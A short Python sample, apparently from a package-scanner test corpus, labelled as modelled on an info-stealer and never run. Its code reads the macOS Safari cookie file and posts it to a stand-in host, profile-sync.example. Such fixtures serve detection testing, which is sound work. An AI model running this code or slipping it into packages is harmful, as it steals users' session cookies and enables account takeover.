# pkgguard corpus 541 (browser-data), modelled on [stealer-profile]; inert, never run.
import os

import requests

jar = os.path.expanduser("~/Library/Cookies/Cookies.binarycookies")
with open(jar, "rb") as fh:
    requests.post("https://profile-sync.example/j", files={"jar": fh}, timeout=10)
